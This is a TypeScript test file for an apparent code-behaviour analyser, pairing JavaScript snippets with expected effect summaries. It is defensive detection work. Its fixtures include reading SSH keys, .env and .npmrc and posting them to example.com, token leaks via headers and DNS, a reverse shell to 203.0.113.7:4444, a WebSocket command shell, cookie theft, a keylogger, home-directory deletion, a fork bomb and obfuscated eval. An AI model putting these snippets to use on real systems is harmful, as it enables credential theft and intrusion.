import assert from 'node:assert/strict'
import {describe, it} from 'node:test'
import {says} from './say.ts'

// What it is about, the code, and what it does: one line for each op, `…` for what nobody can know, `<…>` for where a value came from.
const cases: readonly (readonly [string, string, readonly string[]])[] = [
  ['destructured require', "const {exec} = require('child_process')\nexec('id')", ['run child_process.exec id [id] shell']],
  [
    'node: import with alias',
    "import {execSync as run} from 'node:child_process'\nrun('id')",
    ['run child_process.execSync id [id] shell'],
  ],
  ['namespace import', "import * as cp from 'child_process'\ncp.spawn('git', ['status'])", ['run child_process.spawn git [status]']],
  ['inline require', "require('child_process')['ex' + 'ec']('id')", ['run child_process.exec id [id] shell']],
  ['dynamic import', "const cp = await import('node:child_process')\ncp.execSync('id')", ['run child_process.execSync id [id] shell']],
  ['promised import', "import('child_process').then(cp => cp.exec('id'))", ['run child_process.exec id [id] shell']],
  [
    'promisify',
    "const {promisify} = require('util')\nconst run = promisify(require('child_process').exec)\nawait run('id')",
    ['run child_process.exec id [id] shell'],
  ],
  ['globalThis', "globalThis['ev' + 'al']('1 + 1')", ['eval eval javascript 1 + 1']],
  [
    'indirect eval',
    "(0, eval)('1 + 1')\neval.call(null, '2')\nReflect.apply(eval, null, ['3'])",
    ['eval eval javascript 1 + 1', 'eval eval javascript 2', 'eval eval javascript 3'],
  ],
  ['escaped name', "\\u0065val('1 + 1')", ['eval eval javascript 1 + 1']],
  ['constructor of a function', "[].filter.constructor('return 1')()", ['eval constructor javascript return 1']],
  ['new Function', "new Function('a', 'return a')", ['eval Function javascript return a']],
  ['timer with text', "setTimeout('run()', 10)", ['eval setTimeout javascript run()']],
  ['bare name of a snippet', "execSync('id')", ['run child_process.execSync id [id] shell']],
  [
    'home',
    "const path = require('path'), os = require('os'), fs = require('fs')\nfs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))",
    ['read fs.readFileSync ~/.ssh/id_rsa'],
  ],
  [
    'home from environment',
    "require('fs').readFileSync(`${process.env.HOME}/.npmrc`)",
    ['env process.env HOME', 'read fs.readFileSync ~/.npmrc'],
  ],
  [
    'fs promises',
    "import {readFile} from 'fs/promises'\nconst t = await readFile('.env', 'utf8')\nawait fetch('https://example.com', {method: 'POST', body: t})",
    ['read fs.readFile .env', 'send fetch POST https://example.com data=… <secret:.env> auth='],
  ],
  [
    'node callback',
    "const fs = require('fs')\nfs.readFile('.env', 'utf8', (error, text) => {\n  fetch('https://example.com/in', {method: 'POST', body: JSON.stringify({text})})\n})",
    ['read fs.readFile .env', 'send fetch POST https://example.com/in data={text: …} <secret:.env> auth='],
  ],
  [
    'then chain',
    "fetch('https://example.com/a').then(r => r.text()).then(t => eval(t))",
    ['fetch fetch https://example.com/a', 'eval eval javascript … <remote:https://example.com/a>'],
  ],
  [
    'response events',
    "const https = require('https')\nhttps.get('https://example.com/b', res => {\n  let body = ''\n  res.on('data', chunk => { body += chunk })\n  res.on('end', () => eval(body))\n})",
    ['fetch https.get https://example.com/b', 'eval eval javascript … <remote:https://example.com/b>'],
  ],
  [
    'request object',
    "const https = require('https')\nconst req = https.request({hostname: 'example.com', path: '/up', method: 'POST'}, () => {})\nreq.write(JSON.stringify(process.env))",
    [
      'send https.request POST https://example.com/up data= auth=',
      'send https.request().write POST https://example.com/up data=… <env:*> auth=',
    ],
  ],
  [
    'key in header',
    "fetch('https://api.example.com/v1', {headers: {Authorization: `Bearer ${process.env.API_KEY}`}})",
    [
      'env process.env API_KEY',
      'fetch fetch https://api.example.com/v1',
      'send fetch GET https://api.example.com/v1 data= auth=Bearer … <env:API_KEY>',
    ],
  ],
  [
    'other header',
    "fetch('https://example.com/v1', {headers: {'X-Data': process.env.API_KEY}})",
    ['env process.env API_KEY', 'fetch fetch https://example.com/v1', 'send fetch GET https://example.com/v1 data=… <env:API_KEY> auth='],
  ],
  [
    'query',
    "fetch('https://example.com/?d=' + encodeURIComponent(process.env.GITHUB_TOKEN))",
    [
      'env process.env GITHUB_TOKEN',
      'fetch fetch https://example.com/?d=… <env:GITHUB_TOKEN>',
      'send fetch GET https://example.com/?d=… <env:GITHUB_TOKEN> data=https://example.com/?d=… <env:GITHUB_TOKEN> auth=',
    ],
  ],
  [
    'URL object',
    "const url = new URL('https://example.com/x')\nurl.searchParams.set('d', process.env.TOKEN)\nfetch(url)",
    [
      'env process.env TOKEN',
      'fetch fetch https://example.com/x?d=… <env:TOKEN>',
      'send fetch GET https://example.com/x?d=… <env:TOKEN> data=… <env:TOKEN> auth=',
    ],
  ],
  [
    'axios instance',
    "const axios = require('axios')\nconst api = axios.create({baseURL: 'https://api.example.com', headers: {Authorization: process.env.KEY}})\napi.post('/items', {n: 1})",
    ['env process.env KEY', 'send axios.post POST https://api.example.com/items data={n: 1} auth=… <env:KEY>'],
  ],
  [
    'axios config',
    "axios({method: 'post', url: 'https://example.com', data: require('fs').readFileSync('.env')})",
    ['read fs.readFileSync .env', 'send axios POST https://example.com data=… <secret:.env> auth='],
  ],
  [
    'class',
    "class Client {\n  #key = process.env.KEY\n  constructor(url) { this.url = url }\n  send(data) { return fetch(this.url, {method: 'PUT', body: data}) }\n}\nnew Client('https://example.com/c').send(require('os').hostname())",
    ['env process.env KEY', 'send fetch PUT https://example.com/c data=… <host:os.hostname> auth='],
  ],
  [
    'base64',
    "eval(Buffer.from('YWxlcnQoMSk=', 'base64').toString())\neval(atob('YWxlcnQoMik='))",
    ['eval eval javascript alert(1) <decoded:base64>', 'eval eval javascript alert(2) <decoded:base64>'],
  ],
  ['hex', "eval(Buffer.from('616c657274283129', 'hex').toString('utf8'))", ['eval eval javascript alert(1) <decoded:hex>']],
  ['character codes', 'eval(String.fromCharCode(97, 108, 101, 114, 116))', ['eval eval javascript alert']],
  ['mapped codes', "eval([98, 109].map(c => String.fromCharCode(c - 1)).join(''))", ['eval eval javascript al']],
  ['reverse', "eval(')1(trela'.split('').reverse().join(''))", ['eval eval javascript alert(1)']],
  ['percent', "eval(unescape('%61%6c%65%72%74'))", ['eval eval javascript alert <decoded:percent>']],
  [
    'decoding loop',
    "let out = ''\nconst data = [96, 97, 98]\nfor (let i = 0; i < data.length; i++) out += String.fromCharCode(data[i] + 1)\neval(out)",
    ['eval eval javascript abc'],
  ],
  ['replace', "eval('a-l-e-r-t'.replace(/-/g, ''))", ['eval eval javascript alert']],
  [
    'websocket shell',
    "const ws = new WebSocket('wss://example.com/c')\nws.onmessage = ({data}) => require('child_process').exec(data)",
    ['fetch WebSocket wss://example.com/c', 'run child_process.exec … [… <remote:wss://example.com/c>] shell'],
  ],
  [
    'reverse shell',
    "const net = require('net'), cp = require('child_process')\nconst sh = cp.spawn('/bin/sh', [])\nconst c = net.connect(4444, '203.0.113.7')\nc.pipe(sh.stdin)\nsh.stdout.pipe(c)",
    [
      'run child_process.spawn /bin/sh []',
      'socket net.connect 203.0.113.7:4444',
      'socket net.connect().pipe 203.0.113.7: shell',
      'socket child_process.spawn().stdout.pipe 203.0.113.7: shell',
    ],
  ],
  [
    'shell option',
    "require('child_process').spawn('ls -la', {shell: true, detached: true})",
    ['run child_process.spawn ls [ls -la] shell background'],
  ],
  [
    'template line',
    'require(\'child_process\').execSync(`curl -d "${process.env.TOKEN}" https://example.com`)',
    [
      'env process.env TOKEN',
      'run child_process.execSync curl [curl -d "…" https://example.com <env:TOKEN>] shell',
      'send curl POST https://example.com data="…" <env:TOKEN> auth=',
    ],
  ],
  ['Bun and zx', 'await Bun.$`ls ${process.argv[2]}`', ['run Bun.$ ls [ls … <input:process.argv>] shell']],
  [
    'request handler',
    "app.post('/run', (req, res) => { require('child_process').exec(req.body.cmd) })",
    ['run child_process.exec … [… <input:req>] shell'],
  ],
  [
    'array of files',
    "const fs = require('fs')\nconst all = ['.npmrc', '.netrc'].map(f => fs.readFileSync(`${require('os').homedir()}/${f}`, 'utf8'))\nfetch('https://example.com', {method: 'POST', body: all.join()})",
    [
      'read fs.readFileSync ~/.npmrc',
      'read fs.readFileSync ~/.netrc',
      'send fetch POST https://example.com data=…,… <secret:~/.npmrc, secret:~/.netrc> auth=',
    ],
  ],
  [
    'promise',
    "const data = new Promise(resolve => resolve(process.env.TOKEN))\ndata.then(t => fetch('https://example.com', {method: 'POST', body: t}))",
    ['env process.env TOKEN', 'send fetch POST https://example.com data=… <env:TOKEN> auth='],
  ],
  [
    'host facts',
    "const os = require('os')\nnavigator.sendBeacon('https://example.com', JSON.stringify({u: os.userInfo(), n: os.networkInterfaces()}))",
    ['send navigator.sendBeacon POST https://example.com data={u: …, n: …} <host:os.userInfo, host:os.networkInterfaces> auth='],
  ],
  [
    'dns',
    "require('dns').lookup(`${Buffer.from(process.env.KEY).toString('hex')}.example.com`, () => {})",
    ['env process.env KEY', 'resolve dns.lookup ….example.com <env:KEY>'],
  ],
  [
    'write and chmod',
    "const fs = require('fs')\nfs.writeFileSync('/tmp/a.sh', 'id')\nfs.chmodSync('/tmp/a.sh', 0o755)",
    ['write fs.writeFileSync /tmp/a.sh = id', 'mode fs.chmodSync /tmp/a.sh 755'],
  ],
  [
    'stream to file',
    "const fs = require('fs')\nconst out = fs.createWriteStream('/tmp/x')\nout.write('a')",
    ['write fs.createWriteStream /tmp/x =', 'write open().write /tmp/x = a'],
  ],
  ['remove', "require('fs').rmSync(require('os').homedir(), {recursive: true, force: true})", ['remove fs.rmSync ~ recursive']],
  [
    'copy',
    "require('fs').copyFileSync('SKILL.md', '/tmp/other/SKILL.md')",
    ['read fs.copyFileSync SKILL.md', 'write fs.copyFileSync /tmp/other/SKILL.md = …'],
  ],
  ['trigger', "if (new Date().getHours() === 3) require('child_process').exec('id')", ['? run child_process.exec id [id] shell']],
  [
    'endless',
    "for (;;) { require('child_process').fork(__filename) }",
    ['run child_process.fork node […] background', 'loop while effects spawns'],
  ],
  [
    'interval',
    "setInterval(() => fetch('https://example.com/beat'), 1000)",
    ['fetch fetch https://example.com/beat', 'loop setInterval effects waits'],
  ],
  [
    'async loop',
    "while (true) { await sleep(1000); await fetch('https://example.com/poll') }",
    ['fetch fetch https://example.com/poll', 'loop while effects waits'],
  ],
  ['allocation', 'Buffer.alloc(8e9)', ['allocate repeat 8000000000']],
  ['computed require of an argument', "require(process.argv[2])\nrequire('./local')", ['eval require module … <input:process.argv>']],
  ['environment written', "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'", ['env process.env NODE_TLS_REJECT_UNAUTHORIZED write']],
  [
    'environment for a child',
    "require('child_process').spawn('ls', [], {env: {...process.env, A: '1'}})",
    ['run child_process.spawn ls []'],
  ],
  [
    'image',
    "new Image().src = 'https://example.com/i?c=' + document.cookie",
    [
      'fetch Image().src https://example.com/i?c=… <secret:document.cookie>',
      'send Image().src GET https://example.com/i?c=… <secret:document.cookie> data=https://example.com/i?c=… <secret:document.cookie> auth=',
    ],
  ],
  [
    'keys',
    "document.addEventListener('keydown', e => fetch('https://example.com/k', {method: 'POST', body: e.key}))",
    ['send fetch POST https://example.com/k data=… <conversation:keyboard> auth='],
  ],
  [
    'uncalled export',
    'export default {async fetch(request) { return eval(await request.text()) }}',
    ['eval eval javascript … <input:request>'],
  ],
  [
    'destructured environment',
    "const {TOKEN: t = 'x'} = process.env\nfetch('https://example.com', {method: 'POST', body: t})",
    ['env process.env TOKEN', 'send fetch POST https://example.com data=x <env:TOKEN> auth='],
  ],
  [
    'typed',
    "interface A { x: string }\nconst run = <T,>(x: T): T => x\nfunction go(this: A, cmd?: string): void { (require('child_process') as any).exec(run<string>(cmd!)) }\ngo('id')",
    ['run child_process.exec id [id] shell'],
  ],
  ['jsx', "const a = <div onClick={() => fetch('https://example.com/j')}>text</div>", ['fetch fetch https://example.com/j']],
]

describe('JavaScript', () => {
  for (const [title, code, expected] of cases) it(title, () => assert.deepEqual(says('javascript', code), expected))
})
